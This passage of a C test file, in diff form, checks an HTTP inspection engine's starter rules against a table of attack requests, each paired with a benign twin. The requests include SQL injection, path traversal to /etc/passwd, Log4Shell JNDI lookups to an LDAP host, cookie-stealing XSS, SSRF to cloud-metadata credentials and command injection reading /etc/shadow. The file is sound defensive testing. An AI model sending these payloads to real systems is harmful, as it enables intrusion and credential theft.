+	return e;
+}
+
+struct attack_case {
+	const char *kind;
+	const char *method, *uri;
+	const char *hdr;       /* extra header or NULL */
+	const char *neg_uri;   /* negative twin */
+	const char *neg_hdr;
+	uint8_t verdict;
+};
+
+static const struct attack_case attack_cases[] = {
+	{"sqli", "GET", "/api/v1/products?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+	 NULL, "/api/v1/products?q=union%20station", NULL, MT_ACT_ALERT},
+	{"sqli", "GET", "/api/v1/products?q=1'%20or%201=1--", NULL,
+	 "/api/v1/products?q=O'Brien", NULL, MT_ACT_ALERT},
+	{"traversal", "GET", "/api/v1/files?path=..%2F..%2F..%2F..%2Fetc%2Fpasswd", NULL,
+	 "/api/v1/files?path=reports%2F2024.pdf", NULL, MT_ACT_ALERT},
+	{"traversal", "GET", "/../../etc/passwd", NULL, "/static/etc/passwords.html", NULL,
+	 MT_ACT_ALERT},
+	{"log4shell", "GET", "/api/v1/status", "X-Api-Version: ${jndi:ldap://198.18.250.1:1389/a}",
+	 "/api/v1/status", "X-Api-Version: 2.1", MT_ACT_DROP},
+	{"log4shell", "GET", "/api/v1/status", "X-Api-Version: ${${lower:j}ndi:ldap://x/a}",
+	 "/api/v1/status", "X-Api-Version: ${version}", MT_ACT_DROP},
+	{"scanner", "GET", "/api/v1/users", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)",
+	 "/api/v1/users", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", MT_ACT_ALERT},
+	{"xss", "GET", "/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", NULL,
+	 "/api/v1/search?q=javascript%20tutorial", NULL, MT_ACT_ALERT},
+	{"ssrf", "POST",
+	 "/api/v1/webhooks?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+	 NULL, "/api/v1/webhooks?url=https://hooks.example.com/notify", NULL, MT_ACT_ALERT},
+	{"ssrf", "POST", "/api/v1/webhooks?callback_url=http://127.0.0.1:8080/admin", NULL,
+	 "/api/v1/webhooks?callback_url=https://partner.example.net/cb", NULL, MT_ACT_ALERT},
+	{"cmdi", "GET", "/api/v1/tools/ping?host=198.18.0.1%3Bcat%20%2Fetc%2Fshadow", NULL,
+	 "/api/v1/tools/ping?host=198.18.0.1", NULL, MT_ACT_ALERT},
+	{"jwt_none", "GET", "/api/v1/me",
+	 "Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.",
+	 "/api/v1/me",
+	 "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl",
+	 MT_ACT_ALERT},
+	{"admin", "GET", "/actuator/env", NULL, "/api/v1/environments", NULL, MT_ACT_ALERT},
+	{"apikey_url", "GET", "/api/v1/reports?api_key=sk_live_4eC39HqLyjWDarjtT1zdp7dc", NULL,
+	 "/api/v1/reports?page=2", NULL, MT_ACT_ALERT},
+};
+
+static void
+test_starter_rules(void)
+{
+	struct mt_engine *e = starter(NULL);
+	struct mt_scratch *s;
+
+	CU_ASSERT_FATAL(e != NULL);
+	CU_ASSERT(mt_engine_rule_count(e) >= 10);
+	s = mt_scratch_create(e);
+	CU_ASSERT_FATAL(s != NULL);
+	for (size_t i = 0; i < sizeof(attack_cases) / sizeof(attack_cases[0]); i++) {
+		const struct attack_case *c = &attack_cases[i];
+		const char *hp[4] = {"Host: api.example.com", "Accept: application/json", c->hdr, NULL};
+		const char *hn[4] = {"Host: api.example.com", "Accept: application/json", c->neg_hdr,
+				     NULL};
+		struct tx x;
+		struct mt_result r;
+		int n;
+		bool kind_hit = false;
+
+		tx_req(&x, c->method, c->uri, hp);
+		n = mt_match_request(e, s, &x.t, &r);
+		for (uint32_t k = 0; k < r.n_hits; k++) {
+			const struct mt_rule *rule = (const struct mt_rule *)r.hits[k].rule;
+			for (uint16_t m = 0; m < rule->n_meta; m++)
+				if (strcmp(rule->meta[m].key, "attack_kind") == 0 &&
+				    strcmp(rule->meta[m].value, c->kind) == 0)
+					kind_hit = true;
+		}
+		if (n < 1 || !kind_hit || r.verdict != c->verdict)
+			fprintf(stderr, "starter case %zu (%s) positive: %d hits, verdict %d\n", i,
+				c->kind, n, r.verdict);
+		CU_ASSERT(n >= 1);
+		CU_ASSERT(kind_hit);
+		CU_ASSERT_EQUAL(r.verdict, c->verdict);
+		tx_req(&x, c->method, c->neg_uri, hn);
+		n = mt_match_request(e, s, &x.t, &r);
+		if (n != 0)
+			fprintf(stderr, "starter case %zu (%s) negative: sid %u fired\n", i, c->kind,
+				r.hits[0].rule->sid);
+		CU_ASSERT_EQUAL(n, 0);
+	}
+	mt_scratch_destroy(s);
+	mt_engine_destroy(e);
+}
+
+/* ---------- cache ---------- */
+
+static void
+test_cache_roundtrip(void)
+{
+	char dir[] = "/tmp/mt_cache_XXXXXX";
+	struct mt_engine_params p = {0};
+	struct mt_engine *e1, *e2, *e3;
+	DIR *d;
+	struct dirent *de;
+	int files = 0;
+	char path[512] = "";
+	struct tx x;
+	struct mt_result r;
+	static const char *const h[] = {"Host: t", "User-Agent: sqlmap/1.7", NULL};
+
+	CU_ASSERT_FATAL(mkdtemp(dir) != NULL);
+	p.cache_dir = dir;
+	e1 = starter(&p);
+	CU_ASSERT_FATAL(e1 != NULL);
+	CU_ASSERT_FALSE(e1->from_cache);
+	d = opendir(dir);
+	CU_ASSERT_FATAL(d != NULL);
+	while ((de = readdir(d)) != NULL) {
+		if (strncmp(de->d_name, "mt-", 3) == 0) {
+			files++;
+			snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+		}
+	}
+	closedir(d);
+	CU_ASSERT_EQUAL(files, 1);
+	e2 = starter(&p);
+	CU_ASSERT_FATAL(e2 != NULL);
+	CU_ASSERT_TRUE(e2->from_cache);
+	CU_ASSERT_EQUAL(e2->n_mpm, e1->n_mpm);
+	tx_req(&x, "GET", "/api/v1/products?q=1%27%20UNION%20SELECT%20a,b%20FROM%20users--", h);
+	CU_ASSERT_EQUAL(tx_run(e2, &x, &r), tx_run(e1, &x, &r));
+	CU_ASSERT(r.n_hits >= 2);
+	/* a corrupt cache file is ignored and rewritten */
+	{
+		FILE *f = fopen(path, "r+b");
+		CU_ASSERT_FATAL(f != NULL);
+		fseek(f, 40, SEEK_SET);
+		fputc(0x5a, f);
+		fputc(0xa5, f);
+		fclose(f);
+	}
+	e3 = starter(&p);
+	CU_ASSERT_FATAL(e3 != NULL);
+	CU_ASSERT_FALSE(e3->from_cache);
+	CU_ASSERT_EQUAL(tx_run(e3, &x, &r), (int)r.n_hits);
+	mt_engine_destroy(e1);
+	mt_engine_destroy(e2);
+	mt_engine_destroy(e3);
+	/* different rules: a different key, so a second file */
+	e1 = tx_engine(&p, RULE("http.uri; content:\"x\";"));
+	CU_ASSERT(e1 != NULL && !e1->from_cache);
+	mt_engine_destroy(e1);
+	unlink(path);
+	d = opendir(dir);
+	while (d && (de = readdir(d)) != NULL) {
+		if (de->d_name[0] != '.') {
+			snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+			unlink(path);
+			files++;
+		}
+	}
+	if (d)
+		closedir(d);
+	CU_ASSERT_EQUAL(files, 2);
+	rmdir(dir);
+}
+
+/* ---------- scratch ---------- */
+
+static void
+test_scratch_prepare(void)
+{
+	struct mt_engine *small = tx_engine(NULL, RULE("http.uri; content:\"a\";"));
+	struct mt_engine *big = starter(NULL);
+	struct mt_scratch *s;
+	struct tx x;
+	struct mt_result r;
+	static const char *const h[] = {"Host: t", NULL};
+
+	CU_ASSERT_FATAL(small != NULL && big != NULL);
+	s = mt_scratch_create(small);
+	CU_ASSERT_FATAL(s != NULL);
+	tx_req(&x, "GET", "/actuator/env", h);
+	/* not prepared for the bigger engine: refused, not overrun */
+	CU_ASSERT_EQUAL(mt_match_request(big, s, &x.t, &r), -EINVAL);
+	CU_ASSERT_EQUAL(mt_scratch_prepare(s, big), 0);
+	CU_ASSERT(mt_match_request(big, s, &x.t, &r) >= 1);
+	CU_ASSERT_EQUAL(mt_match_request(small, s, &x.t, &r), 1);
+	CU_ASSERT_EQUAL(mt_match_request(NULL, s, &x.t, &r), -EINVAL);
+	mt_scratch_destroy(s);
+	mt_engine_destroy(small);
+	mt_engine_destroy(big);
+}
+
+/* ---------- no allocation on the match path ---------- */
+
+#if !defined(__SANITIZE_ADDRESS__) && !defined(__has_feature)
+#define MT_COUNT_MALLOC 1
+#elif defined(__has_feature)
+#if !__has_feature(address_sanitizer)
+#define MT_COUNT_MALLOC 1
+#endif
+#endif
+
+#ifdef MT_COUNT_MALLOC
+extern void *__libc_malloc(size_t);
+extern void *__libc_calloc(size_t, size_t);
+extern void *__libc_realloc(void *, size_t);
+static volatile long n_allocs;
+void *malloc(size_t n) { n_allocs++; return __libc_malloc(n); }
+void *calloc(size_t a, size_t b) { n_allocs++; return __libc_calloc(a, b); }
+void *realloc(void *p, size_t n) { n_allocs++; return __libc_realloc(p, n); }
+#endif
+
+static void
+test_no_alloc(void)
+{
+#ifdef MT_COUNT_MALLOC
+	struct mt_engine *e = starter(NULL);
+	struct mt_scratch *s;
+	long before;
+	struct mt_result r;
+	struct tx x;
+	static const char *const rh[] = {"X-Powered-By: Express", NULL};
+
+	CU_ASSERT_FATAL(e != NULL);
+	s = mt_scratch_create(e);
+	CU_ASSERT_FATAL(s != NULL);
+	before = n_allocs;
+	for (size_t i = 0; i < sizeof(attack_cases) / sizeof(attack_cases[0]); i++) {
+		const char *hp[3] = {"Host: a", attack_cases[i].hdr, NULL};
+		tx_req(&x, attack_cases[i].method, attack_cases[i].uri, hp);
+		tx_resp(&x, 200, "OK", rh);
+		CU_ASSERT(mt_match_request(e, s, &x.t, &r) >= 1);
+		CU_ASSERT(mt_match_response(e, s, &x.t, &r) >= 1);
+	}
+	CU_ASSERT_EQUAL(n_allocs, before);
+	mt_scratch_destroy(s);
+	mt_engine_destroy(e);
+#else
+	fprintf(stderr, "(allocation count skipped under AddressSanitizer)\n");
+#endif
+}
+
+int
+main(void)
+{
+	CU_pSuite su;
+
+	if (CU_initialize_registry() != CUE_SUCCESS)
+		return 1;
+	su = CU_add_suite("matchers_match", NULL, NULL);
+	CU_add_test(su, "buffers_request", test_buffers_request);
+	CU_add_test(su, "buffers_absent", test_buffers_absent);
+	CU_add_test(su, "buffers_response", test_buffers_response);
+	CU_add_test(su, "uri_normalize", test_uri_normalize);
+	CU_add_test(su, "offset_depth", test_offset_depth);
+	CU_add_test(su, "relative", test_relative);
+	CU_add_test(su, "negation", test_negation);
+	CU_add_test(su, "bsize_isdataat", test_bsize_isdataat);
+	CU_add_test(su, "pcre", test_pcre);
+	CU_add_test(su, "actions", test_actions);
+	CU_add_test(su, "many_hits", test_many_hits);
+	CU_add_test(su, "addresses", test_addresses);
+	CU_add_test(su, "to_client_addresses", test_to_client_addresses);
+	CU_add_test(su, "fast_pattern_grouping", test_fast_pattern_grouping);
+	CU_add_test(su, "starter_rules", test_starter_rules);
+	CU_add_test(su, "cache_roundtrip", test_cache_roundtrip);
+	CU_add_test(su, "scratch_prepare", test_scratch_prepare);
+	CU_add_test(su, "no_alloc", test_no_alloc);
+	return tu_run_all();
+}
